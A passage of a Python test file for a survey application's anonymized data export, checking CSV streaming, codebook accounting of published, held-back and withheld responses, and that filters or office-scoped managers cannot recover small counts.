    has the rows of a read in one piece (also with a service type outside the vocabulary,
    which is then counted by value, and with CSV chunks written two at once). A first export
    of a scope reads its rows in the pass that counts the cells; one whose anonymization is
    kept reads them alone: the same file."""
    from survey.cli import _operator_scope
    from survey.db import engine_lifespan, make_engine
    from survey.export import microdata, queries, shuffle
    from survey.export.routes import export_request
    from survey.export.stream import open_export
    from survey.export.tabular import CsvWriter
    from tests.conftest import run_async

    streams: list[int] = []
    merged = queries._merged
    writes: list[int] = []
    write = CsvWriter.write

    def counting_write(self: Any, columns: Any, n: int) -> bytes:
        writes.append(n)
        return write(self, columns, n)

    monkeypatch.setattr(CsvWriter, "write", counting_write)

    def counting(halves: Any) -> Any:
        streams.append(len(halves))
        return merged(halves)

    monkeypatch.setattr(queries, "_merged", counting)
    row_reads: list[int] = []
    rows = queries.SQLiteReader.rows

    def counting_rows(self: Any, query: Any) -> Any:
        row_reads.append(1)
        return rows(self, query)

    monkeypatch.setattr(queries.SQLiteReader, "rows", counting_rows)

    async def cells(offices: list[int]) -> tuple[Counter[Any], Counter[Any]]:
        reader = await queries.open_reader(sqlite_settings)
        try:
            assert isinstance(reader, queries.SQLiteReader) and reader.second is not None
            last_day = microdata.month_range(last_complete_month())[1]
            mine = await reader.cell_counts(offices, last_day)
            plain = await queries.Reader._cell_counts_by_value(reader, offices, last_day)
            return Counter(mine), Counter(plain)
        finally:
            await reader.close()

    async def export(keep: bool = False) -> list[bytes]:
        if not keep:
            microdata._decided.clear()
        scope = await _operator_scope()
        opened = await open_export(sqlite_settings, scope, export_request({}), via="test")
        body = b"".join([chunk async for chunk in opened.body()])
        head, *rows = body.removesuffix(b"\r\n").split(b"\r\n")
        return [head, *sorted(rows)]

    async def main() -> None:
        engine = make_engine(sqlite_settings)
        async with engine_lifespan(engine, 1):
            months = _quarter_months()
            offices = [await make_office(f"Standort {i}") for i in range(3)]
            for i, office in enumerate(offices):
                for j, month in enumerate(months):
                    link = await make_link(office, mode=("personal", "kiosk")[j % 2])
                    answers = [{**FULL_ANSWERS, "respect": 1 + (i + j + n) % 5}
                               for n in range(5 + i)]  # fmt: skip
                    await make_responses(engine, link, answers, when=_when(month))
            for odd in (False, True):
                if odd:
                    link = await make_link(offices[0], service_type="retraining")
                    await make_responses(engine, link, [FULL_ANSWERS] * 6, when=_when(months[1]))
                mine, plain = await cells(offices)
                assert mine == plain and sum(c[6] for c in mine) == 54 + 6 * odd
                assert any(c[1] == "retraining" for c in mine) == odd
                monkeypatch.setattr(queries, "SPLIT_IDS", 10**9)
                streams.clear()
                row_reads.clear()
                whole = await export()
                assert set(streams) == {1}
                # read in the pass that counts the cells, unless a value lies outside the
                # vocabulary; with the scope's anonymization kept, the rows are read alone
                assert len(row_reads) == odd
                assert await export(keep=True) == whole and len(row_reads) == 1 + odd
                monkeypatch.setattr(queries, "SPLIT_IDS", 0)
                assert await export() == whole and set(streams) == {1, 2}
                # a statement per few ids: the id ranges shrink and grow with the rows found
                monkeypatch.setattr(queries, "CHUNK_ROWS", 4)
                assert await export() == whole
                monkeypatch.setattr(queries, "CHUNK_ROWS", 50_000)
                assert len(whole) - 1 == 54 + 6 * odd
                # many small buckets: CSV chunks written two at once, sent in order
                monkeypatch.setattr(shuffle, "BUCKET_ROWS", 4)
                writes.clear()
                assert await export() == whole and len(writes) >= 10
                monkeypatch.setattr(shuffle, "BUCKET_ROWS", 50_000)
                mine_split, _ = await cells(offices)
                assert mine_split == plain

    run_async(main())


LAST = "2025-11"
"""The last complete month of the accounting tests: Q3 2025 is complete, Q4 2025 is running."""


async def _quarter_world(app: Litestar) -> World:
    """One job centre whose responses of 2025-08 to 2025-11 fall into each category: German
    ones published as they are (6 a month), Turkish ones of Q3 published only for the
    quarter (2 a month), two Turkish ones of October held back (Q4 is running), and one
    Pashto response in the small office left out (nothing reaches k)."""
    engine = app.state.engine
    jc = await make_organization("Jobcenter Quartal")
    a = await make_office("Gross", organization=jc)
    b = await make_office("Klein", organization=jc)
    link_a, link_b = await make_link(a), await make_link(b)
    for month in ("2025-07", "2025-08", "2025-09", "2025-10", "2025-11"):
        await make_responses(engine, link_a, [FULL_ANSWERS] * 6, when=_when(month))
    for month in ("2025-07", "2025-08", "2025-09", "2025-10"):
        await make_responses(engine, link_a, [FULL_ANSWERS] * 2, locale="tr",
                             when=_when(month, 15))  # fmt: skip
    await make_responses(engine, link_b, [FULL_ANSWERS], locale="ps", when=_when("2025-09"))
    researcher = await make_staff_user("quartal", PASSWORD, "researcher", organization=jc)
    token = "rz_test_quartal_" + "q" * 30
    await ApiToken(user=researcher, name="q", token_hash=hash_token(token),
                   created_at=dt.datetime.now(dt.UTC)).save()  # fmt: skip
    return World(jc=jc, a=a, b=b, token=token)


async def test_the_codebook_accounts_for_every_response_of_a_period_starting_mid_quarter(
    client: httpx.AsyncClient, app: Litestar, staff: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from survey.export import microdata

    monkeypatch.setattr(microdata, "last_complete_month", lambda today=None: LAST)
    w = await _quarter_world(app)
    bearer = {"authorization": f"Bearer {w.token}"}
    period = {"from": "2025-08", "to": LAST}
    book = (await client.get("/api/v1/exports/codebook", params=period, headers=bearer)).json()
    acc = book["anonymization"]["accounting"]
    # every category is there, and together they are every response of the period
    assert acc["exported"] == book["rows"] == 4 * 6
    assert acc["partial_quarter"] == 4  # Turkish, August and September: Q3 2025 as a whole
    assert acc["held_back"] == 2  # Turkish, October: Q4 2025 is running
    assert acc["left_out"] == 1  # the Pashto one
    assert acc["not_selected"] == 0
    in_period = await Response.count().where(
        (Response.day >= dt.date(2025, 8, 1)) & (Response.day <= dt.date(2025, 11, 30))
    )
    assert in_period == 31
    parts = ("exported", "left_out", "held_back", "partial_quarter", "not_selected")
    assert sum(acc[p] for p in parts) == acc["responses"] == in_period
    assert acc["partial_quarters"] == ["2025-Q3"]
    assert (acc["aligned_from"], acc["aligned_to"]) == ("2025-07", LAST)
    # the rows of the file are the exported ones; the audit entry has the same accounting
    answer = await _get(client, w.token, format="csv", **period)
    assert len(answer.text.strip().splitlines()) - 1 == acc["exported"]
    (entry,) = await AuditLog.select().where(AuditLog.action == "export")
    detail = entry["detail"] if isinstance(entry["detail"], dict) else json.loads(entry["detail"])
    assert detail["anonymization"]["accounting"] == acc
    for lang, line in (
        ("en", "generalized to a quarter that the period covers only in part: 4 (2025-Q3; "
               "widen the period to whole quarters to include them: 2025-07 – 2025-11)"),
        ("de", "auf ein Quartal verallgemeinert, das der Zeitraum nur zum Teil abdeckt: 4"),
    ):  # fmt: skip
        params = {**period, "as": "md", "labels": lang}
        md = await client.get("/api/v1/exports/codebook", params=params, headers=bearer)
        assert line in md.text, md.text
        assert ("31, davon" if lang == "de" else "31, of which") in md.text
    # the whole quarter: nothing outside, the Turkish rows of Q3 are exported
    whole = (
        await client.get("/api/v1/exports/codebook", params={"from": "2025-07"}, headers=bearer)
    ).json()["anonymization"]["accounting"]
    assert whole["partial_quarter"] == 0 and whole["partial_quarters"] == []
    assert whole["exported"] == 5 * 6 + 6 and whole["responses"] == 39
    # the export page warns, names the quarter and offers the whole quarters
    await staff.login("quartal", PASSWORD)
    for lang, words in (("en", "covers Q3 2025 (2025-07 – 2025-09) only in part"),
                        ("de", "deckt Q3 2025 (2025-07 – 2025-09) nur zum Teil ab")):  # fmt: skip
        page = await client.get("/export", params={**period, "lang": lang})
        assert page.status_code == 200
        assert 'data-testid="export-partial-quarter"' in page.text and words in page.text
        assert "from=2025-07" in page.text and "4 " in page.text
        assert 'data-testid="accounting-partial-quarter">4<' in page.text
    page = await client.get("/export", params={"from": "2025-07", "to": "2025-08"})
    assert "from=2025-07&amp;to=2025-09" in page.text or "to=2025-09&amp;from=2025-07" in page.text
    page = await client.get("/export", params={"from": "2025-07"})
    assert 'data-testid="export-partial-quarter"' not in page.text


async def test_the_accounting_counts_no_finer_cell_than_the_rows_whatever_the_filters(
    client: httpx.AsyncClient, app: Litestar, monkeypatch: pytest.MonkeyPatch
) -> None:
    """t22's finding 5: the accounting counted the responses the filters named by their true
    values, so `office=B&language=ps&from=2025-09&to=2025-09` said responses = 1 (the Pashto
    one, left out), and differencing filters undid the generalization. Now only the rows
    (the file's own count) and the rest depend on the filters."""
    from survey.export import microdata

    monkeypatch.setattr(microdata, "last_complete_month", lambda today=None: LAST)
    w = await _quarter_world(app)
    bearer = {"authorization": f"Bearer {w.token}"}
    fixed = ("responses", "left_out", "held_back", "partial_quarter")
    for period in ({"from": "2025-09", "to": "2025-09"}, {"from": "2025-08", "to": LAST}):
        unfiltered = (
            await client.get("/api/v1/exports/codebook", params=period, headers=bearer)
        ).json()["anonymization"]["accounting"]
        for filters in (
            {"office": str(w.b), "language": "ps"},
            {"office": str(w.b)},
            {"language": "ps", "mode": "kiosk"},
            {"language": "tr", "service_type": "benefits"},
            {"office": str(w.a), "language": "de"},
            {"jobcentre": str(w.jc)},
        ):
            params = {**period, **filters}
            book = (
                await client.get("/api/v1/exports/codebook", params=params, headers=bearer)
            ).json()
            acc = book["anonymization"]["accounting"]
            assert {p: acc[p] for p in fixed} == {p: unfiltered[p] for p in fixed}, params
            rows = await _get(client, w.token, format="csv", **params)
            assert acc["exported"] == book["rows"] == len(rows.text.strip().splitlines()) - 1
            parts = ("exported", "left_out", "held_back", "partial_quarter", "not_selected")
            assert sum(acc[p] for p in parts) == acc["responses"], params
    # September: 6 German, 2 Turkish (in Q3's rows) and the Pashto one (left out)
    assert unfiltered["responses"] == 6 * 4 + 2 * 3 + 1 and unfiltered["left_out"] == 1
    one = (
        await client.get(
            "/api/v1/exports/codebook",
            params={"from": "2025-09", "to": "2025-09", "office": str(w.b), "language": "ps"},
            headers=bearer,
        )
    ).json()["anonymization"]["accounting"]
    assert one["responses"] == 6 + 2 + 1 and one["exported"] == 0
    assert one["not_selected"] == 6  # September's German rows, published and filtered out
    # r23: a manager of office A alone learns no exact count of office B
    manager = await make_staff_user("nur.gross", PASSWORD, "manager", office=w.a)
    token = "rz_test_nur_gross_" + "g" * 30
    await ApiToken(user=manager, name="g", token_hash=hash_token(token),
                   created_at=dt.datetime.now(dt.UTC)).save()  # fmt: skip
    params = {"from": "2025-08", "to": LAST}
    bearer = {"authorization": f"Bearer {token}"}
    book = await client.get("/api/v1/exports/codebook", params=params, headers=bearer)
    own = book.json()["anonymization"]["accounting"]
    assert own["responses"] == 6 * 4 + 2 * 3 and own["left_out"] == 0, own  # no Pashto of B


async def test_the_codebook_counts_per_column_what_the_rows_carry(
    client: httpx.AsyncClient, app: Litestar
) -> None:
    w = await _world(app)
    answer = await _get(client, w.token, format="csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    names, values = rows[0], [[int(v) for v in r] for r in rows[1:]]
    bearer = {"authorization": f"Bearer {w.token}"}
    book = (await client.get("/api/v1/exports/codebook", headers=bearer)).json()
    counts = book["anonymization"]["variables"]
    assert set(counts) == {"office", "office_type", "service_type", "language", "mode", "month"}
    for name, count in counts.items():
        column = [r[names.index(name)] for r in values]
        assert count["withheld"] == column.count(-3), name
        assert count["generalized"] == (column.count(99) if name == "language" else 0), name
    # the five "other" rows name only the job centre: office and office type withheld
    assert counts["office"]["withheld"] == counts["office_type"]["withheld"] == 5


async def test_the_export_refuses_a_bad_separator_and_a_running_month_with_the_reason(
    client: httpx.AsyncClient, app: Litestar, staff: Any
) -> None:
    w = await _world(app)
    current = dt.datetime.now(LOCAL_ZONE).strftime("%Y-%m")  # the running month is Berlin's
    last = last_complete_month()
    for params, reason in (
        ({"sep": "tab"}, "comma (,) or semicolon (;)"),
        ({"from": current}, f"from must not be later than {last}, the last complete month"),
    ):
        answer = await _get(client, w.token, **params)
        assert answer.status_code == 400 and reason in answer.json()["detail"], answer.text
        assert "end before it starts" not in answer.text
    await staff.login("forscherin", PASSWORD)
    for params, reason in (
        ({"sep": "tab"}, "Komma (,) oder Semikolon (;)"),
        ({"from": current}, f"abgeschlossene Monate, und {current} ist noch nicht zu Ende"),
    ):
        page = await client.get("/export", params={**params, "lang": "de"})
        assert page.status_code == 400 and reason in page.text, page.text
